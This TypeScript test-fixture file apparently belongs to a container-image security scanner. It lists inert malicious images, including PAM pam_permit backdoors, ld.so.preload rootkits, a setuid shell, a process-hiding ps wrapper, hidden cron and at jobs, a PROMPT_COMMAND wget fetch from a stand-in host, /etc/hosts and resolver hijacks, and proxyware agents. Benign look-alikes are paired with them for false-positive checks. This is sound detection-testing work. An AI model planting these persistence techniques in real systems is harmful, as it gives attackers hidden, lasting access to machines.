import { type ImageCase, image, items, program, SSH_KEY, starts } from './image-case.ts';

const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\n';
/** `root`, as `openssl passwd -1` makes it. */
const HASH = '$1$abcdefgh$rV6RhG4no19bGJfmub3Ui1';

function hold(
  name: string,
  rule: string,
  spec: ImageCase['spec'],
  severity?: ImageCase['severity'],
): ImageCase {
  return { name, rule, spec, ...(severity && { severity }) };
}

/** Ways to keep a hold on a container that their detectors were not written for. All inert. */
export const HOLDS: readonly ImageCase[] = [
  hold(
    'password: root',
    'access/weak-password',
    image(
      { 'usr/sbin/sshd': program(), 'etc/passwd': PASSWD, 'etc/shadow': `root:${HASH}:1::::::\n` },
      { Cmd: ['/usr/sbin/sshd', '-D'] },
    ),
    'high',
  ),
  hold(
    'setuid: a copy of the shell',
    'persistence/setuid-shell',
    image(
      {
        'opt/app/helper': { data: items({ x: program() })[0]?.data ?? '', mode: 0o4755 },
        'usr/bin/zsh': program(),
      },
      NGINX,
    ),
  ),
  hold(
    'preload: for all programs',
    'persistence/preload',
    image({ 'etc/ld.so.preload': '/lib/.cache/libnss.so\n', 'lib/.cache/libnss.so': program() }, NGINX),
  ),
  hold(
    'preload: exported at start',
    'persistence/preload',
    starts('export LD_PRELOAD=/var/tmp/libz.so\nexec nginx'),
  ),
  hold(
    'pam: any password',
    'persistence/pam',
    image({ 'etc/pam.d/sshd': 'auth sufficient pam_permit.so\nauth required pam_unix.so\n' }, NGINX),
  ),
  hold(
    'tools: ps that leaves out',
    'persistence/shadowed-tool',
    image(
      {
        'usr/bin/ps': program(['procps']),
        'usr/local/bin/ps': '#!/bin/bash\n/bin/ps "$@" | grep -Ev "xm|kdev"\n',
      },
      NGINX,
    ),
  ),
  hold(
    'cron: a hidden program',
    'persistence/hidden-start',
    image({ 'etc/cron.d/logs': '*/5 * * * * root /usr/share/.sys/upd\n' }, NGINX),
  ),
  hold(
    'prompt: fetches',
    'persistence/hidden-start',
    image({ 'root/.bashrc': 'export PROMPT_COMMAND="wget -qO- https://p.example/x"\n' }, NGINX),
  ),
  hold(
    'tunnel: with a token',
    'tunnel/agent',
    starts('cloudflared tunnel --no-autoupdate run --token eyJhIjoiZXhhbXBsZSJ9AAAA &\nexec nginx'),
  ),
  hold(
    'mirror: without signatures',
    'trust/package-mirror',
    image({ 'etc/apt/sources.list.d/a.list': 'deb [ trusted=yes ] http://203.0.113.5/debian ./\n' }, NGINX),
  ),
  hold(
    'hosts: a registry moved',
    'trust/hosts',
    starts("echo '203.0.113.5 registry.npmjs.org' >> /etc/hosts\nexec nginx"),
  ),
  hold(
    'at: a job that waits',
    'persistence/hidden-start',
    image(
      { 'var/spool/cron/atjobs/a0000101a2b3c4': '#!/bin/sh\n# atrun uid=0 gid=0\n/var/tmp/.x/upd -q\n' },
      NGINX,
    ),
  ),
  hold(
    'cron: written at start',
    'persistence/hidden-start',
    starts("echo '*/5 * * * * root /var/tmp/.x/upd' > /etc/cron.d/sys\nexec nginx"),
  ),
  hold(
    'preload: written at start',
    'persistence/preload',
    starts('echo /usr/lib/.x/libc.so > /etc/ld.so.preload\nexec nginx'),
    'high',
  ),
  hold(
    'resolver: of a stranger',
    'trust/resolver',
    starts('echo "nameserver 203.0.113.53" > /etc/resolv.conf\nexec nginx'),
  ),
  hold(
    'bandwidth: sold under another name',
    'proxyware/agent',
    starts('/opt/svc/net start accept --token AbCdEf0123456789AbCdEf0123456789 &\nexec nginx'),
    'high',
  ),
  hold(
    'bandwidth: by ENV',
    'proxyware/agent',
    image({}, { ...NGINX, Env: ['RP_EMAIL=a@example.org', 'RP_API_KEY=0123456789'] }),
    'high',
  ),
];

/** Honest images that look like them. */
export const HOLD_TWINS: readonly ImageCase[] = [
  {
    name: 'jemalloc preloaded',
    spec: image(
      { 'usr/local/lib/libjemalloc.so.2': program() },
      { ...NGINX, Env: ['PATH=/usr/bin', 'LD_PRELOAD=/usr/local/lib/libjemalloc.so.2'] },
    ),
  },
  {
    name: 'a cron of an application',
    spec: image({ 'etc/cron.d/app': '0 * * * * www-data /usr/local/bin/php /var/www/cron.php\n' }, NGINX),
  },
  {
    name: 'the PAM of Debian',
    spec: image(
      {
        'etc/pam.d/common-auth':
          'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n',
      },
      NGINX,
    ),
  },
  {
    name: 'a mirror of a company',
    spec: image(
      {
        'etc/pip.conf': '[global]\nindex-url = https://nexus.corp.example/simple\n',
        'etc/apt/sources.list': 'deb http://mirror.corp.example/debian bookworm main\n',
      },
      NGINX,
    ),
  },
  {
    name: 'endings of names behind a variable',
    spec: image(
      {
        'etc/init.d/watch':
          '#!/bin/sh\nfor IFACE in $(ls /sys/class/net); do\n  [ -f "/etc/watch/${IFACE}.iface" ] && . "/etc/watch/${IFACE}.iface"\ndone\n',
      },
      NGINX,
    ),
  },
  {
    name: 'resolvers for everybody, and near ones',
    spec: starts(
      'printf "nameserver 1.1.1.1\\nnameserver 10.8.0.1\\nnameserver fd00::53\\n" > /etc/resolv.conf\nexec nginx',
      { 'etc/resolv.conf': 'nameserver 203.0.113.2\n' },
    ),
  },
  {
    name: 'a helper preloaded by a script',
    spec: starts('echo /usr/lib/x86_64-linux-gnu/libjemalloc.so.2 > /etc/ld.so.preload\nexec nginx'),
  },
  {
    name: 'a client with a token and terms',
    spec: starts(
      'app start --token "$APP_TOKEN" --accept-terms\nrunner register --token AbCdEf0123456789AbCdEf --url https://ci.example/',
    ),
  },
  {
    name: 'jobs of at that are honest',
    spec: starts('echo "/usr/local/bin/rotate" | at midnight\nexec atd -f', {
      'var/spool/cron/atjobs/a0000101a2b3c4': '#!/bin/sh\n# atrun uid=0 gid=0\n/usr/local/bin/rotate\n',
    }),
  },
  {
    name: 'a public key of a known host',
    spec: image({ 'root/.ssh/known_hosts': `git.example ${SSH_KEY}\n` }, NGINX),
  },
];
